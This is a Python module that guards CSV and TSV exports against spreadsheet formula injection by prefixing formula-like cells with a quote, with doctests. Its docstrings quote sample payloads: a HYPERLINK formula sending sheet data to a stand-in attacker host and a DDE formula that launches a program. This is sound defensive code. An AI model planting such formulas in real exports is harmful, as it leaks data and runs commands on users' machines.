"""Cells that are safe to open in a spreadsheet program (CSV and TSV exports).

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, a tab or a carriage return) as a formula and runs it: a label such as
``=HYPERLINK("http://evil.example/?"&A1, "click")`` imported from a stranger's file
would leak the sheet when a steward opens the export. The usual defence (OWASP's "CSV
injection" advice) is to put a single quote in front of such a cell, which the program
shows as text and does not evaluate. Numbers keep their sign: ``-5`` and ``+1.5e3``
are numbers, not formulas, and are written as they are.

Every CSV and TSV that clustergraph writes (query results, the network's tables)
goes through :func:`safe_cell` by default; ``spreadsheet_safe=False`` in Python and
``--no-spreadsheet-safe`` on the command line write the cells untouched.

>>> safe_cell("=1+2")
"'=1+2"
>>> safe_cell("-5"), safe_cell("Cap Digital"), safe_cell(42)
('-5', 'Cap Digital', 42)
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pandas is imported by the callers that have a frame
    import pandas as pd

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_frame", "is_formula"]

#: Characters that make a spreadsheet program read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula(value: Any) -> bool:
    """True when a spreadsheet program would evaluate ``value`` as a formula.

    >>> [is_formula(v) for v in ("=SUM(A1:A3)", "@cmd", "+33 1 23", "-0.5", "", None)]
    [True, True, True, False, False, False]
    """
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it would be read as a formula; anything else unchanged."""
    return "'" + value if is_formula(value) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and index and column names) are safe to open.

    Numeric columns are not touched; the frame passed in is never changed.

    >>> import pandas as pd
    >>> frame = pd.DataFrame({"name": ["=cmd|' /C calc'!A0", "Cap Digital"], "budget": [-5, 7]})
    >>> safe_frame(frame)["name"].tolist(), safe_frame(frame)["budget"].tolist()
    (["'=cmd|' /C calc'!A0", 'Cap Digital'], [-5, 7])
    """
    from pandas.api.types import is_string_dtype

    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or is_string_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    if out.index.dtype == object:
        out.index = out.index.map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out
